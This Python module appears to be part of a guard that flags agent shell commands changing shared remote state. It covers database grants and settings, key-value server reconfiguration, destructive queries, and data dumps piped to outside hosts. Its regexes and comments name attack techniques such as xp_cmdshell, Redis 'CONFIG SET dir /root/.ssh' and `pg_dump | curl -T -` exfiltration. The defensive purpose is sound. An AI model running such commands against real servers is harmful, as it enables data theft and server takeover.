"""State shared with others, judged by what a command does to it rather than by the tool's name: a data store's access
or server settings changed (here), a destructive raw HTTP request (rawhttp.py), cloud security opened (cloudopen.py),
a package's owners changed or a long-lived credential minted (registry.py), data dumped out of a shared store (dumps.py:
`pg_dump -h db.prod | curl -T -`), and the default for shared state no rule recognises: a tool no rule names, a
server other than this machine and a verb that changes it (`remote-write`).

What runs against this machine (a test database or search node the task started on localhost, a compose service, a
unix socket; hosts.py) stays free for the data-store, HTTP and default classes: that is where an agent's tests live.
Cloud and registry calls always reach shared state. Each finding raises a signal with a `why:` note the denial shows.
"""

from __future__ import annotations

import functools
import itertools
import re
from collections.abc import Mapping

from dun.guard import cloudopen, rawhttp, registry
from dun.guard.effects import Facts
from dun.guard.expand import Val
from dun.guard.hosts import HOST_OPTIONS, host_of, is_local, option_hosts, remote_hosts
from dun.guard.options import Spec, parse
from dun.guard.rules_generic import CLOUD_TOOLS, PACKAGE_TOOLS, TEXT_AND_OWN

TEXT = frozenset({"echo", "printf", "grep", "egrep", "fgrep", "rg", "ag", "ack", "sed", "awk", "gawk", "cat", "less",
                  "more", "head", "tail", "jq", "yq", "man", "tldr", "which", "type", "help", "git", "diff", "test",
                  "[", "tee", "wc", "sort", "uniq", "tr", "cut", "xargs", "find", "ls", "touch", "mkdir", "cp", "mv",
                  "logger", "notify-send", "say", "history", "alias", "export", "set", "read", "declare", "local",
                  "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "node", "ruby", "perl", "php",
                  "ip", "route", "iptables", "ip6tables", "nft", "ufw", "firewall-cmd", "ipcalc", "sipcalc", "nmap",
                  "ping", "traceroute", "dig", "nslookup", "host", "whois", "ssh", "scp", "rsync", "sudo", "env"})

# -- data stores: access and server settings ------------------------------------------------------------------------
_SQL_ADMIN = re.compile(
    r"\b(?:grant|revoke)\b|\b(?:create|alter|drop)\s+(?:user|role|login)\b|\bdrop\s+owned\b|\bset\s+password\b"
    r"|\balter\s+system\b|\bset\s+global\b|\bcopy\b[^;]*\b(?:to|from)\s+program\b|\binto\s+(?:out|dump)file\b"
    r"|\bowner\s+to\b|\breassign\s+owned\b|\b(?:createUser|updateUser|grantRolesToUser|grantPrivilegesToRole|changeUserPassword)\s*\("
    r"|\bsetParameter\b|\bshutdownServer\s*\(|\bsp_(?:addsrvrolemember|addrolemember|configure|addlogin|password"
    r"|changedbowner)\b|\bxp_cmdshell\b|\breconfigure\b|\bcreate\s+extension\b|\binstall\s+(?:plugin|soname|component)\b"
    r"|\bset\s+persist\b"  # and the server itself: sessions killed, replication cut, tables locked for a rewrite
    r"|\bpg_(?:terminate_backend|drop_replication_slot|promote)\b|\bvacuum\s+full\b|\breset\s+(?:master|replica|slave)\b"
    r"|\bstop\s+(?:replica|slave)\b|\bpurge\s+binary\s+logs\b|\bset\s+single_user\b|^\s*shutdown\b", re.I)
_QUERY_OPTIONS = frozenset({"-e", "--execute", "-execute", "-q", "--query", "-Q", "--sql", "-c", "--command", "--eval"})
# Hosted warehouses: every server of theirs is shared
_WAREHOUSES = frozenset({"snowsql", "bq", "databricks", "athena", "redshift-data", "bteq", "snow"})
_SQL_EVERYWHERE = re.compile(r"\bcopy\b[^;]*\b(?:to|from)\s+program\b|\binto\s+(?:out|dump)file\b", re.I)
# Redis-protocol commands that change the server, not the data: CONFIG SET dir ~/.ssh, SHUTDOWN NOSAVE, REPLICAOF
_KV_ADMIN = re.compile(r"^(?:config\s+(?:set|rewrite|resetstat)|shutdown|replicaof|slaveof|debug"
                       r"|module\s+(?:load|unload)|acl\s+(?:setuser|deluser|load|save)|cluster\s+(?:reset|forget|failover|setslot)"
                       r"|(?:script|function)\s+flush|failover|bgrewriteaof|migrate|swapdb)\b", re.I)
_KV_FLUSH = re.compile(r"\bflush(?:all|db)\b|\bflush_all\b", re.I)
_KV_SPEC = Spec("hpsaurindD", frozenset({"--user", "--pass", "--askpass", "--cacert", "--cert", "--key", "--sni",
                                          "--eval", "--pattern", "--count", "--quoted-pattern", "--cacertdir"}))
KV_CLIENTS = frozenset({"redis-cli", "valkey-cli", "keydb-cli", "kvrocks-cli", "memurai-cli", "dragonfly-cli",
                        "iredis", "redli", "rdcli", "garnet-cli", "tairs-cli"})
_RAW_SOCKETS = frozenset({"nc", "ncat", "netcat", "socat", "telnet"})
SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlcmd", "clickhouse-client", "cockroach", "mongosh", "mongo",
                          "usql", "snowsql", "cqlsh", "pgcli", "mycli", "cypher-shell", "arangosh", "sqlplus", "isql",
                          "bteq", "vsql", "trino", "presto", "beeline", "influx", "duckdb", "surreal", "snow",
                          "mysqlsh"})

# Dump and export tools: what they print is the data of the store they read
DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mysqlpump", "mydumper", "mongodump",
                      "mongoexport", "elasticdump", "multielasticdump", "redis-dump", "redis-dump-go", "cbexport",
                      "neo4j-admin", "clickhouse-backup", "influxd", "arangodump", "arangoexport", "dsbulk",
                      "riak-admin", "pgcopydb", "pg_basebackup", "xtrabackup", "mariabackup", "mysqlbackup",
                      "pgbackrest", "barman"})  # shells (mysqlsh, cqlsh, etcdctl): only where they dump, dumps.py
_OUT = ("--output=", "--out=", "--to=", "--target=", "--dest=", "--destination=")

HELP = frozenset({"--help", "--dry-run", "--dryrun", "help"})


def _note(facts: Facts, signal: str, why: str) -> None:
    facts.signals.add(signal)
    facts.notes.setdefault(signal, f"why: {why}")


_FQDN = re.compile(r"^[a-z0-9-]+(?:\.[a-z0-9-]+)+$", re.I)
_FILE_ENDS = (".db", ".sql", ".sqlite", ".sqlite3", ".duckdb", ".csv", ".json", ".js", ".txt", ".gz", ".dump", ".cql",
              ".yaml", ".yml", ".conf", ".cfg", ".ini", ".py", ".sh")
_CONNINFO_HOST = re.compile(r"(?:^|\s)(?:host|hostaddr|server|data source)\s*=\s*([^\s;,]+)", re.I)


def hosts_of(prog: str, words: list[str]) -> list[str]:
    """The servers a data-store client talks to (every one named, local or not)."""
    options = HOST_OPTIONS - {"-H"} if prog not in ("sqlcmd",) else HOST_OPTIONS
    found = option_hosts(words, options) + [h for w in words if (h := host_of(w.split("=", 1)[1] if w.startswith(
        "-") and "=" in w else w)) is not None]
    found += [w[2:] for w in words if w.startswith("-h") and len(w) > 2 and w[2] != "="]  # mysql -hdb.acme.io
    found += [m.group(1) for w in words for m in _CONNINFO_HOST.finditer(w)]  # psql "host=db.acme.io dbname=x"
    found += [b for a, b in itertools.pairwise(words) if a in ("-host", "-server", "-S")]  # influx -host h
    found += [w for w in words[:3] if _FQDN.match(w) and not w.endswith(_FILE_ENDS)]  # cqlsh cassandra.acme.io
    if prog == "sqlplus":  # sqlplus user/pass@host:1521/SID
        found += [w.rsplit("@", 1)[1].split(":", 1)[0].split("/", 1)[0] for w in words if "@" in w]
    return found


# The variables a client reads its server from when no option names one (libpq's PGHOST, the mysql client's MYSQL_HOST)
_ENV_HOSTS = {"PGHOST": frozenset({"psql", "pg_dump", "pg_dumpall", "pg_restore", "pg_basebackup", "pgcli", "dropdb",
                                   "createdb", "pgcopydb"}),
              "MYSQL_HOST": frozenset({"mysql", "mariadb", "mysqldump", "mariadb-dump", "mysqlpump", "mysqladmin"}),
              "DATABASE_URL": frozenset({"prisma"})}


def with_env_host(prog: str, args: list[Val], *scopes: Mapping[str, str | None]) -> list[Val]:
    """The arguments, with `-h HOST` added when the client names no server and takes it from a variable set in the
    line or the environment (`scopes`, the line's first): export PGHOST=db.prod.internal; pg_dump shop | ..."""
    for name, progs in _ENV_HOSTS.items():
        if prog not in progs:
            continue
        value = next((v for scope in scopes if (v := scope.get(name))), None)
        if value and not hosts_of(prog, [a.text for a in args]):
            return [Val("-h"), Val(value), *args]
    return args


def _there(elsewhere: bool, prog: str, words: list[str]) -> str | None:
    """The other machine a command runs on, when it names no server of its own (ssh prod 'redis-cli CONFIG SET')."""
    return "the machine it runs on" if elsewhere and not hosts_of(prog, words) else None


def shared(hosts: list[str]) -> str | None:
    return next((h for h in hosts if not is_local(h)), None)


_CODE_HOST = re.compile(r"""\bhost\s*[=:]\s*['"]([^'"]+)['"]|['"][a-z][a-z0-9+]*://(?:[^@/'"]*@)?([^:/'"]+)""", re.I)
_CODE_SQL = re.compile(r"""\b(?:execute|executescript|query|sql|raw|exec|command|run)\s*\(\s*[fbru]*(['"][^'"]*)""",
                       re.I)
_CODE_KV_ADMIN = re.compile(r"\.(?:config_set|configSet|replicaof|slaveof|shutdown|acl_setuser|module_load)\s*\(", re.I)


def _code_data_store(facts: Facts, code: str) -> None:
    """Interpreter code that connects to a shared data store and changes its access or settings (psycopg2 ...
    execute('GRANT ...'), redis.Redis(host=...).config_set('dir', ...))."""
    host = next((h for m in _CODE_HOST.finditer(code) if not is_local(h := m.group(1) or m.group(2))), None)
    sql = " ".join(m.group(1) for m in _CODE_SQL.finditer(code))
    if host and ((_CODE_KV_ADMIN.search(code) and "redis" in code.lower()) or _SQL_ADMIN.search(sql)):
        _note(facts, "db-admin", f"code changes the access or settings of the data store on {host}")


def mark(facts: Facts, args: list[Val], stdin_text: str | None, elsewhere: bool = False) -> None:
    """Raise the signals of what this command does to shared remote state. `elsewhere`: it runs on another machine
    (ssh HOST '...', fly ssh console -C, kubectl exec; not a container of this machine), so a server it names by no
    host is that machine's."""
    prog = facts.program
    if rawhttp.INTERPRETER.fullmatch(prog):
        rawhttp.code_writes(facts, [a.text for a in args])
        _code_data_store(facts, " ".join(a.text for a in args))
    if not prog or prog in TEXT:
        return
    words = [a.text for a in args]
    if HELP.intersection(words) or words == ["-h"]:
        return
    if prog in _ORM_SQL and {"execute", "--stdin"} <= {*facts.operands, *facts.flags} and stdin_text:
        facts.queries.append(stdin_text)  # prisma db execute --stdin <<< 'GRANT ...': the SQL it sends
    _data_store(facts, prog, words, stdin_text, elsewhere)
    _hosted_shell(facts, prog, words)
    if prog in rawhttp.HTTP_CLIENTS:
        rawhttp.mark(facts, prog, words)
    cloudopen.mark(facts, words)
    if prog in ("gh", "glab") and facts.sub == "api" and _HOSTED_OFF.search(" ".join([*words, stdin_text or ""])):
        _note(facts, "cloud-open", "turns off a hosted repository's security features")  # --input - <<< '{...}'
        return
    registry.mark(facts, prog, words)
    if not facts.signals & _OURS:
        _unknown_write(facts, prog, words)


_HOSTED_OFF = re.compile(r"(?:secret_scanning|push_protection|dependabot|vulnerability|code_scanning|advanced_security)"
                         r"(?:[^}]*\"(?:status|enabled)\"\s*:\s*(?:\"disabled\"|false)|\]\[(?:status|enabled)\]=(?:disabled|false))",
                         re.I)
_OURS = frozenset({"db-admin", "db-destroy", "http-destroy", "cloud-open", "registry-owner", "exfiltrate"})
# Verbs that change what a server holds or how it runs
_WRITE_VERBS = re.compile(r"^(?:set|put|update|create|add|patch|write|apply|grant|revoke|enable|disable|post|import"
                          r"|restore|rotate|delete|remove|rm|drop|reset|purge|flush|truncate|upsert|insert|replace"
                          r"|edit|modify|promote|demote|failover|restart|stop|kill|shutdown|scale|move|mv|rename"
                          r"|transfer|attach|detach|bind|unbind|register|deregister|unregister|invalidate|expire"
                          r"|evict|clear)(?:[-_:]\w+)?$")


_DESTROYING_NAME = re.compile(r"delete|remove|drop|purge|flush|truncate|destroy|wipe|erase", re.I)


def _unknown_write(facts: Facts, prog: str, words: list[str]) -> None:
    """The default for shared state no rule recognises: a program no rule names, given a server other than this
    machine, with a verb that changes what the server holds (`acmedb --host db.prod config set maxconn 1`)."""
    leading = [w.lower() for w in [facts.sub, *facts.operands] if host_of(w) is None and "." not in w][:4]
    if _named(prog) or any(cloudopen.READ.match(v) for v in leading):
        return
    verb = next((v for v in leading if _WRITE_VERBS.match(v)), None) or (
        prog if _DESTROYING_NAME.search(prog) else None)  # ldapdelete -H ldap://ldap.acme.io ...
    host = next((h for h in remote_hosts(words)), None) if verb else None
    if verb and host:
        _note(facts, "remote-write", f"{prog} {verb} changes state on {host}, which this task did not start")


def _named(prog: str) -> bool:
    """Programs some rule or list of the guard judges on their own (their rules decide), and package tools."""
    return prog in _rule_programs() or prog in cloudopen.LOCAL_TOOLS or prog in PACKAGE_TOOLS or \
        prog in TEXT_AND_OWN or prog in CLOUD_TOOLS or \
        prog in rawhttp.HTTP_CLIENTS or prog in _SQL_CLIENTS_AND_KV


@functools.lru_cache(maxsize=1)
def _rule_programs() -> frozenset[str]:
    from dun.guard.rules import BUILTIN_RULES  # the rules import this module's signals' users: resolved at call time

    return frozenset(p for r in BUILTIN_RULES for m in r.matches for p in m.programs)


# Variables a data-store client takes its server from (PGHOST=db.prod psql ..., REDIS_URL=redis://... redis-cli)
_ORM_SQL = frozenset({"prisma"})  # ORM tools that send SQL they are given (prisma db execute)
_HOST_VARS = re.compile(r"^(?:PGHOST|MYSQL_HOST|MARIADB_HOST|REDISCLI_HOST|REDIS_HOST|MONGO_HOST|[A-Z_]*DATABASE_URL"
                        r"|[A-Z_]*(?:REDIS|MONGO(?:DB)?|PG|POSTGRES|MYSQL)_(?:URL|URI|HOST))$")


def mark_env(facts: Facts, assigned: dict[str, str | None]) -> None:
    """A data-store client whose server is set by a variable for the command: judged as if given with -h."""
    if facts.program not in SQL_CLIENTS and facts.program not in KV_CLIENTS and facts.program not in _ORM_SQL:
        return
    for name, value in assigned.items():
        if value and _HOST_VARS.match(name) and (host := host_of(value) or value) and not is_local(host):
            _data_store(facts, facts.program, ["-h", host, *facts.unit.split()[1:]], None)
            return


# Hosting CLIs that open a shell on a database they host, and the words that do it (heroku pg:psql -c, turso db shell)
_HOSTED_DB = frozenset({"heroku", "fly", "flyctl", "turso", "pscale", "upstash", "neonctl", "supabase", "render",
                        "railway", "xata", "nhost", "convex", "planetscale", "cockroach-cloud", "aiven", "avn"})
_SHELL_WORDS = frozenset({"shell", "psql", "pg:psql", "redis:cli", "connect", "exec", "sql", "query", "execute",
                          "console", "cli"})
_DESTROY_SQL = re.compile(r"\b(?:drop|truncate)\b|^\s*delete\s+from\s+\S+\s*;?\s*$", re.I)


def _hosted_shell(facts: Facts, prog: str, words: list[str]) -> None:
    if prog not in _HOSTED_DB or not _SHELL_WORDS.intersection([facts.sub, *facts.operands[:2]]):
        return
    for text in [w.split("=", 1)[-1] for w in words]:
        if _KV_FLUSH.search(text) or _DESTROY_SQL.search(text):
            _note(facts, "db-destroy", f"{' '.join(text.split())[:50]} on a database {prog} hosts")
            return
        if _SQL_ADMIN.search(text) or _KV_ADMIN.match(text):
            _note(facts, "db-admin", f"{' '.join(text.split())[:50]} on a database {prog} hosts")
            return


def _data_store(facts: Facts, prog: str, words: list[str], stdin_text: str | None, elsewhere: bool = False) -> None:
    if prog in _RAW_SOCKETS and stdin_text:
        lines = [line.strip() for line in re.split(r"[\r\n]+|\\r\\n|\\n", stdin_text) if line.strip()]
        if any(_KV_FLUSH.search(line) for line in lines):
            _note(facts, "db-destroy", f"sends {lines[0][:40]!r} to a key-value server over a raw socket")
        elif host := next((line for line in lines if _KV_ADMIN.match(line)), None):
            _note(facts, "db-admin", f"sends {host[:40]!r} to a server over a raw socket")
        return
    command = " ".join(v.text for v in parse([Val(w) for w in words], _KV_SPEC).operands)
    if not command and stdin_text and prog in KV_CLIENTS:  # echo 'CONFIG SET dir /root/.ssh' | redis-cli -h x
        command = " ".join(stdin_text.split())
    if prog in KV_CLIENTS or (prog.endswith("-cli") and command.split()[:1] and command.split()[0].upper() in (
            "FLUSHALL", "FLUSHDB", "CONFIG", "SHUTDOWN", "REPLICAOF", "SLAVEOF")):
        if _KV_FLUSH.search(command):
            _note(facts, "db-destroy", f"{command.split()[0]} empties the key-value store")
        elif _KV_ADMIN.match(command) and (host := shared(hosts_of(prog, words)) or _there(elsewhere, prog, words)):
            _note(facts, "db-admin", f"{' '.join(command.split()[:3])} changes the server {host}")
        return
    if prog in DUMPERS and (source := shared(hosts_of(prog, [w for w in words if not w.startswith(_OUT)]))) and (
            sink := shared([h for w in words if w.startswith(_OUT) and (h := host_of(w.split("=", 1)[1]))])):
        facts.signals.add("exfiltrate")  # elasticdump --input=http://es.prod:9200/x --output=https://elsewhere/
        facts.notes.setdefault("exfiltrate", f"secret: the data on {source}, sent to {sink}")
        return
    given = [w.split("=", 1)[1] for w in words if w.split("=", 1)[0] in _QUERY_OPTIONS and "=" in w]
    given += [b for a, b in itertools.pairwise(words) if a in _QUERY_OPTIONS]
    if prog in SQL_CLIENTS or prog in _ORM_SQL or facts.queries:
        for query in [*facts.queries, *given] or ([stdin_text] if stdin_text and prog in SQL_CLIENTS else []):
            m = _SQL_ADMIN.search(query)
            if m is None:
                continue
            host = shared(hosts_of(prog, words)) or (f"the {prog} warehouse" if prog in _WAREHOUSES else None) or \
                _there(elsewhere, prog, words)
            if host or _SQL_EVERYWHERE.search(query):
                where = f" on {host}" if host else ""
                _note(facts, "db-admin", f"{' '.join(m.group(0).split()).upper()}{where} changes who may use the "
                      "server, or the server itself")
                return


_SQL_CLIENTS_AND_KV = SQL_CLIENTS | KV_CLIENTS | DUMPERS
